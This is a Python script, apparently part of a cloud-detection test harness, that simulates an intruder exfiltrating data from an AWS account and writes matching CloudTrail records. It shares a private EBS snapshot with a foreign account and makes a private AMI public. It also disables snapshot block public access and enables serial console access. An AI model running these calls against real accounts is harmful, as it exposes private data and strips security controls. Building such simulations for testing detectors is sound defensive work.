"""On an account seeded by sharing.py (argv[1]: its output), moves data out
the way an intruder would: shares the private snapshot with a foreign
account, makes the private AMI public, and in eu-west-1 turns snapshot
block public access off and the serial console on. Writes the CloudTrail
records AWS would have written into argv[2]/records.json."""
import json
import sys
import uuid

from common import Trail, client, emit

made = json.loads(sys.argv[1])
E, W = "us-east-1", "eu-west-1"
trail = Trail(made["account"])
ec2, west = client("ec2", E), client("ec2", W)
rid = {"requestId": str(uuid.uuid4()), "_return": True}

ec2.modify_snapshot_attribute(SnapshotId=made["snap_private"], Attribute="createVolumePermission",
                              OperationType="add", UserIds=["999988887777"])
trail.record("ModifySnapshotAttribute", "ec2.amazonaws.com",
             {"snapshotId": made["snap_private"], "attributeType": "CREATE_VOLUME_PERMISSION",
              "createVolumePermission": {"add": {"items": [{"userId": "999988887777"}]}}}, rid)
ec2.modify_image_attribute(ImageId=made["ami_private"], LaunchPermission={"Add": [{"Group": "all"}]})
trail.record("ModifyImageAttribute", "ec2.amazonaws.com",
             {"imageId": made["ami_private"], "attributeType": "launchPermission",
              "launchPermission": {"add": {"items": [{"group": "all"}]}}}, rid)
west.disable_snapshot_block_public_access()
trail.record("DisableSnapshotBlockPublicAccess", "ec2.amazonaws.com",
             {"DisableSnapshotBlockPublicAccessRequest": ""},
             {"DisableSnapshotBlockPublicAccessResponse": {"state": "unblocked"}}, region=W)
west.enable_serial_console_access()
trail.record("EnableSerialConsoleAccess", "ec2.amazonaws.com",
             {"EnableSerialConsoleAccessRequest": ""},
             {"EnableSerialConsoleAccessResponse": {"serialConsoleAccessEnabled": True}}, region=W)
trail.write(sys.argv[2])
emit({"changed": [
    f"ec2.snapshot/{E}/{made['snap_private']}",
    f"ec2.image/{E}/{made['ami_private']}",
    f"ec2.region_settings/{W}/{W}",
]})
